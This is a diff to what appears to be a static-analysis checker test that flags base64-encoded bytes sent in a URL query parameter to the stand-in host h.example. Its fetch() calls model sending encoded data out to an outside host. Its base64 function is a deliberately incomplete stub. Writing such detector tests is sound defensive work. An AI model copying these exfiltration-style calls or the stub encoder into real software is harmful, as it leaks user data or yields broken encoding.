@@ -102,3 +102,28 @@ void codes(const std::string &Bytes) {
   fetch("https://h.example/?sum=" + base64UrlEncode(Bytes));
   fetch("https://h.example/?sum=" + urlEncode(base64Encode(Bytes)));
 }
+
+// Base64 by its name, although its body is in view.
+enum class Alphabet { Plain, ForUrls };
+std::string base64Of(const unsigned char *Bytes, unsigned Size,
+                     Alphabet Used) {
+  static const char Digits[2][65] = {
+      "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/",
+      "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"};
+  std::string Result;
+  for (unsigned I = 0; I + 2 < Size; I += 3)
+    Result += Digits[Used == Alphabet::ForUrls][Bytes[I] >> 2];
+  return Result;
+}
+std::string base64Encode(const unsigned char *Bytes, unsigned Size) {
+  return base64Of(Bytes, Size, Alphabet::Plain);
+}
+std::string base64Encode(const unsigned char *Bytes, unsigned Size,
+                         Alphabet Used) {
+  return base64Of(Bytes, Size, Used);
+}
+void bytes(const unsigned char *Bytes, unsigned Size) {
+  fetch("https://h.example/?sum=" + base64Encode(Bytes, Size));
+// CHECK-MESSAGES: :[[@LINE-1]]:37: warning: 'base64Encode' goes into query parameter 'sum'
+  fetch("https://h.example/?sum=" + base64Encode(Bytes, Size, Alphabet::ForUrls));
+}
